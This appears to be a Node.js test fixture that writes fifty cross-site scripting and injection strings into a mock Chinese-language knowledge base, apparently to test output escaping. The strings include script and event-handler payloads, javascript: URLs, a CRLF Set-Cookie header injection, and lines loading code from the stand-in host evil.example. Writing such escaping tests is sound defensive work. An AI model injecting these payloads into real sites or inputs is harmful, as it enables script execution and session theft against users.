/*
 * Fifty strings that would run code in a page that took them for HTML, or end a header, a string of
 * JSON or a tag. Each holds `xss`, by which it is found again.
 */
'use strict';

const fs = require('node:fs');
const path = require('node:path');

const STRINGS = [
	'<script>xss(1)</script>',
	'<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
	'</script><script>xss(3)</script>',
	'</title><script>xss(4)</script>',
	'</textarea><script>xss(5)</script>',
	'<!--><script>xss(6)</script-->',
	'<![CDATA[<script>xss(7)</script>]]>',
	'<<script>xss(8)//<</script>',
	'<scr<script>ipt>xss(9)</scr</script>ipt>',
	'<script\n>xss(10)</script\n>',
	'<script/xss>xss(11)</script>',
	'<script type=module>import "//evil.example/xss.mjs"</script>',
	'<img src=x onerror=xss(13)>',
	'<img src="x" onerror="xss(14)">',
	"<img src='x' onerror='xss(15)'>",
	'<img/src=`x`/onerror=xss(16)>',
	'<image href=x onerror=xss(17)>',
	'<svg onload=xss(18)>',
	'<svg><script>xss(19)</script></svg>',
	'<svg><animate onbegin=xss(20) attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:xss(21)"><text y=20>点</text></a></svg>',
	'<math><mi xlink:href="javascript:xss(22)">点</mi></math>',
	'<body onload=xss(23)>',
	'<iframe src="javascript:xss(24)"></iframe>',
	'<iframe srcdoc="<script>xss(25)</script>"></iframe>',
	'<object data="javascript:xss(26)"></object>',
	'<embed src="data:text/html,<script>xss(27)</script>">',
	'<a href="javascript:xss(28)">点这里</a>',
	'<a href="java\tscript:xss(29)">点这里</a>',
	'<a href="&#106;avascript:xss(30)">点这里</a>',
	'<a href="data:text/html;base64,eHNz">xss 点这里</a>',
	'<form action="javascript:xss(32)"><button>提交</button></form>',
	'<button formaction=javascript:xss(33)>提交</button>',
	'<input autofocus onfocus=xss(34)>',
	'<details open ontoggle=xss(35)>',
	'<video><source onerror=xss(36)></video>',
	'<audio src=x onerror=xss(37)>',
	'<marquee onstart=xss(38)>',
	'<style>@import "//evil.example/xss.css";</style>',
	'<link rel=stylesheet href=//evil.example/xss.css>',
	'<meta http-equiv=refresh content="0;url=javascript:xss(41)">',
	'<base href="//evil.example/xss/">',
	'<div style="background:url(javascript:xss(43))">',
	'"><script>xss(44)</script>',
	"'-xss(45)-'",
	'"};xss(46);//',
	'\\"};xss(47);//',
	'${xss(48)}{{xss(48)}}<%= xss(48) %>',
	'x\r\nSet-Cookie: xss=49\r\n\r\n<script>xss(49)</script>',
	'\u2028xss(50)\u2029<p onmouseover=xss(50)>',
];

/* Words that tell the entries from one another. */
const SUBJECTS = ['苹果', '香蕉', '葡萄', '西瓜', '草莓', '樱桃', '柠檬', '菠萝', '芒果', '荔枝', '石榴', '柿子', '核桃', '板栗',
	'花生', '芝麻', '大豆', '玉米', '小麦', '高粱', '土豆', '番茄', '黄瓜', '茄子', '辣椒', '白菜', '菠菜', '芹菜', '韭菜', '萝卜',
	'南瓜', '冬瓜', '丝瓜', '苦瓜', '莲藕', '竹笋', '蘑菇', '木耳', '海带', '紫菜', '鲤鱼', '鲫鱼', '螃蟹', '龙虾', '牡蛎', '鸡蛋',
	'鸭蛋', '牛奶', '豆腐', '粉条'];

const questionOf = (index) => `${SUBJECTS[index]}怎么保存？${STRINGS[index].replace(/[\r\n\t]/g, ' ')}`;

/* Words that no entry has. */
const referredBy = (index) => `${'青红橙黄蓝紫黑白灰绿'[Math.floor(index / 5)]}${'一二三四五'[index % 5]}渡口的船几点开`;

/* Its rule knows nothing but what the person says. */
function caseOf(string, fact) {
	const sentence = `'${string.replaceAll("'", "''")}'`;
	return { id: '1', label: `情形1${string}`, situation: string, advice: string,
		pick: `SELECT said('${fact}') = 'yes' AS verdict`, because: sentence, because_not: sentence,
		todo: [{ what: string, who: string, where: string }] };
}

function entryOf(string, index) {
	return {
		id: `hostile-${index + 1}`,
		question: questionOf(index),
		also: [`${SUBJECTS[index]}如何保存 ${index}`],
		answer: `${SUBJECTS[index]}放好。${string}`,
		cases: [caseOf(string, `xss${index}`)],
		ask: [{ fact: `xss${index}`, question: string, why: string,
			options: [{ label: string, value: 'yes' }, { label: `不${string}`, value: 'no' }] }],
		source: { document: string, item: index + 1 },
		related: [`hostile-${(index + 1) % STRINGS.length + 1}`],
	};
}

/* Adds a collection whose every text holds one of them, an office that does and referrals that do. */
function writeKnowledge(folder) {
	const entries = STRINGS.map(entryOf);
	const referrals = STRINGS.map((string, index) => ({ id: `referral-${index + 1}`, topic: string,
		also: [referredBy(index)], reply: `渡船这里不管。${string}` }));
	fs.writeFileSync(path.join(folder, 'referrals.json'), JSON.stringify({ referrals }));
	fs.mkdirSync(path.join(folder, 'hostile'));
	fs.writeFileSync(path.join(folder, 'hostile/entries.jsonl'), entries.map((entry) => `${JSON.stringify(entry)}\n`).join(''));
	fs.writeFileSync(path.join(folder, 'office.json'), JSON.stringify({
		name: STRINGS[0],
		title: STRINGS[3],
		examples: STRINGS.slice(0, 12),
		contacts: [{ kind: 'phone', label: STRINGS[12], value: STRINGS[43] }, { kind: 'address', label: '网址', value: 'javascript:xss(0)' },
			...STRINGS.map((string) => ({ kind: 'address', label: string, value: string }))],
		texts: { welcome: STRINGS[17], decline: STRINGS[48] },
	}));
}

module.exports = { STRINGS, SUBJECTS, questionOf, referredBy, writeKnowledge };
